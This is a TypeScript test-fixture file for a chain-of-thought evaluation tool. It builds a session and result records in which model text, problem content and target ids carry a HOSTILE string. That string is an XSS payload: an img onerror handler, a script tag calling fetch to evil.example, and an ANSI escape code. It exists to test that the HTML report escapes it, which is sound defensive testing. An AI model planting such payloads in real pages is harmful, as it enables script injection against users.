// Inputs for the HTML tests: a session with hostile model text, two evaluators with token
// log-probabilities, a human override and targets that disagree; and result records whose ids
// try to break out of the page.
import type { Candidate, ChainSentence } from "../../src/core/chain.js";
import type { ResultRecord } from "../../src/results/index.js";
import type { SessionFile } from "../../src/state/sessions.js";

export const HOSTILE = `<img src="http://evil.example/x.png" onerror="alert(1)"><script>fetch("https://evil.example/")</script>\u001b[31m`;

const tokens = (text: string, base: number) => (text.match(/\s*\S+/g) ?? []).map((token, i) => ({ token, logprob: -((base + i * 1.3) % 9) }));

function candidate(generator: string, sampleIndex: number, text: string, ppl: [number, number]): Candidate {
  return {
    id: `${generator}#${sampleIndex}`,
    generator,
    sampleIndex,
    text,
    raw: text,
    tokens: tokens(text, 0.5),
    scores: [
      { evaluator: "judge-a", meanNll: Math.log(ppl[0]), perplexity: ppl[0], tokens: tokens(text, sampleIndex + 0.2) },
      { evaluator: "judge-b", meanNll: Math.log(ppl[1]), perplexity: ppl[1], tokens: tokens(text, sampleIndex + 1.7) },
    ],
    meanPerplexity: (ppl[0] + ppl[1]) / 2,
    endOfThought: false,
  };
}

export function hostileSession(): SessionFile {
  const steps: [string, string][] = [
    [" Tom starts with 3 apples.", " Tom has apples."],
    [" He buys 4 more.", ` He buys ${HOSTILE} more.`],
    [" 3 + 4 = 7.", " 3 + 4 = 8."],
    [" So the answer is 7.", " Answer: 7."],
  ];
  const sentences: ChainSentence[] = steps.map(([a, b], i) => {
    const cands = [candidate("alpha", 0, a, [2 + i, 2.5 + i]), candidate("beta", 0, b, [3 + i, 1 + i])];
    const pick = cands.reduce((x, y) => (y.meanPerplexity! < x.meanPerplexity! ? y : x));
    // Step 2: a person overrides the evaluator and takes the hostile candidate's rival.
    const accepted = i === 1 ? cands[0]! : pick;
    return {
      text: accepted.text,
      author: accepted.generator,
      decision: i === 1 ? "human-pick" : "evaluator",
      candidates: cands,
      evaluatorPick: pick.id,
      acceptedId: accepted.id,
      at: new Date(0).toISOString(),
    };
  });
  const ans = (target: string, chainLength: number, answer: string) => ({
    target,
    chainLength,
    raw: `Answer: ${answer}`,
    grade: { answer, correct: answer === "7" },
  });
  const answers = [
    ans("t1", 0, "3"),
    ans("t2", 0, "4"),
    ans(HOSTILE, 0, ""),
    ans("t1", 2, "7"),
    ans("t2", 2, "8"),
    ans(HOSTILE, 2, "7"),
    ans("t1", 4, "7"),
    ans("t2", 4, "7"),
    ans(HOSTILE, 4, "7"),
  ];
  const snap = (chainLength: number, consistency: number, accuracy: number) => ({
    chainLength,
    pairs: {},
    consistency,
    accuracy,
    split: { consistentCorrect: consistency * accuracy, consistentWrong: consistency * (1 - accuracy), inconsistent: 1 - consistency },
  });
  return {
    schema: 1,
    id: "hostile",
    createdAt: new Date(0).toISOString(),
    updatedAt: new Date(0).toISOString(),
    problem: {
      id: "demo-1",
      source: "builtin",
      messages: [{ role: "user", content: `Tom has 3 apples and buys 4 more. How many apples does he have now? ${HOSTILE}` }],
      reference: { kind: "number", value: "7" },
      meta: {},
    },
    roles: { generators: ["alpha", "beta"], evaluators: ["judge-a", "judge-b"], targets: ["t1", "t2", HOSTILE] },
    chain: { sentences, finished: true },
    targets: { answers, consistency: [snap(0, 0, 0), snap(2, 1 / 3, 2 / 3), snap(4, 1, 1)] },
  };
}

/** Records of two conditions and three targets over `items` problems, one target id hostile. */
export function hostileRecords(items = 12): ResultRecord[] {
  const out: ResultRecord[] = [];
  const targets = ["a/one", "b/two", HOSTILE];
  for (const [ci, condition] of [
    { kind: "empty", variant: "full" },
    { kind: "transfer", source: HOSTILE, variant: "without-answer" },
  ].entries()) {
    for (let p = 0; p < items; p++) {
      targets.forEach((target, t) => {
        const answer = (p + t * (ci + 1)) % 3 === 0 ? "7" : String((p * (t + 1)) % 4);
        out.push({
          schema: 1,
          condition: condition as ResultRecord["condition"],
          target,
          problemId: String(p),
          dataset: "builtin",
          reference: { kind: "number", value: "7" },
          answerRaw: answer,
          answer,
          correct: answer === "7",
          cot: Array.from({ length: 2 + p }, (_, k) => `Step ${k + 1} of ${HOSTILE}.`).join(" "),
          meta: {},
        });
      });
    }
  }
  return out;
}
